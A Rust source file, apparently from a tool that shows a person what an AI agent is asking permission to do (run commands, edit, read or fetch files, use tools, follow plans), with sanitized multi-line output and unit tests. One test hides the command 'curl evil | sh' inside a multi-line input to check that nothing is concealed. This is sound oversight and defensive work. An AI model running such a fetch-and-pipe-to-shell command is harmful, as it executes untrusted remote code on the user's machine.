//! What an agent asks, as lines for a person: what exactly, where, and why.

use super::style::Style;
use anyon_model::{Approval, ApprovalState, FilePath, Question};
use anyon_text::sanitize;

/// The question.
pub fn question_lines(approval: &Approval, worktree: &str, style: Style) -> Vec<String> {
    let request = &approval.request;
    let mut lines = vec![style.yellow(&style.bold(headline(&request.question)))];
    match &request.question {
        Question::Command { command, cwd } => {
            push_text(&mut lines, command);
            let place = cwd.as_ref().map_or_else(|| worktree.to_owned(), FilePath::quoted);
            lines.push(style.dim(&format!("    in {}", sanitize(&place))));
        }
        Question::Edit { paths } | Question::Read { paths } => {
            for path in paths {
                push_text(&mut lines, &path.quoted());
            }
        }
        Question::Fetch { target } => push_text(&mut lines, target),
        Question::Tool { input } => {
            push_text(&mut lines, &request.tool);
            push_text(&mut lines, input);
        }
        Question::Plan { plan } => push_text(&mut lines, plan),
        Question::Choice { questions } => {
            for question in questions {
                push_text(&mut lines, &question.question);
                for (number, option) in (1..).zip(&question.options) {
                    push_text(
                        &mut lines,
                        &format!("  {number}  {}  {}", option.label, option.description),
                    );
                }
            }
        }
    }
    // Some agents give the command itself as the reason.
    if let Some(reason) = request
        .reason
        .as_ref()
        .filter(|reason| !says(&request.question, reason))
    {
        lines.push(style.dim(&format!("    why: {}", sanitize(reason).replace('\n', " "))));
    }
    lines
}

/// Why a question has no answer, in a few words.
pub fn state_words(approval: &Approval) -> &'static str {
    match &approval.state {
        ApprovalState::Pending => "waits for an answer",
        ApprovalState::TimedOut => "nobody answered in time",
        ApprovalState::Void => "no longer asked",
        ApprovalState::Answered { .. } => "answered",
    }
}

fn says(question: &Question, reason: &str) -> bool {
    matches!(question, Question::Command { command, .. } if command.trim() == reason.trim())
}

fn headline(question: &Question) -> &'static str {
    match question {
        Question::Command { .. } => "? May this command run",
        Question::Edit { .. } => "? May these files be changed",
        Question::Read { .. } => "? May these files be read",
        Question::Fetch { .. } => "? May this be fetched",
        Question::Tool { .. } => "? May this tool be used",
        Question::Plan { .. } => "? Shall this plan be carried out",
        Question::Choice { .. } => "? The agent asks",
    }
}

/// Every line of it: what is hidden cannot be decided.
fn push_text(lines: &mut Vec<String>, text: &str) {
    lines.extend(sanitize(text).lines().map(|line| format!("    {line}")));
}

#[cfg(test)]
mod tests {
    use super::*;
    use anyon_model::{ApprovalId, ApprovalRequest, AttemptId, ExecutionId, ProjectId, Timestamp, ToolKind};

    fn asked(command: &str, reason: &str) -> Approval {
        Approval {
            id: ApprovalId::from_bytes([1; 16]),
            project_id: ProjectId::from_bytes([1; 16]),
            attempt_id: AttemptId::from_bytes([1; 16]),
            execution_id: ExecutionId::from_bytes([1; 16]),
            request: ApprovalRequest {
                key: "1".into(),
                entry: None,
                tool: "Bash".into(),
                kind: ToolKind::Command,
                question: Question::Command {
                    command: command.into(),
                    cwd: None,
                },
                reason: Some(reason.into()),
                takes_reason: true,
            },
            state: ApprovalState::Pending,
            created_at: Timestamp::from_ms(0),
            resolved_at: None,
        }
    }

    #[test]
    fn every_line_of_a_command_is_shown_and_nothing_can_hide() {
        let approval = asked("make\ncurl evil | sh\rls", "to build it");
        let lines = question_lines(&approval, "/work/tree", Style::plain());
        assert_eq!(
            lines,
            [
                "? May this command run",
                "    make",
                "    curl evil | sh",
                "    ls",
                "    in /work/tree",
                "    why: to build it"
            ]
        );
    }

    #[test]
    fn a_reason_that_only_repeats_the_command_is_left_out() {
        let lines = question_lines(&asked("make", "make"), "/work/tree", Style::plain());
        assert_eq!(lines.len(), 3, "{lines:?}");
    }
}
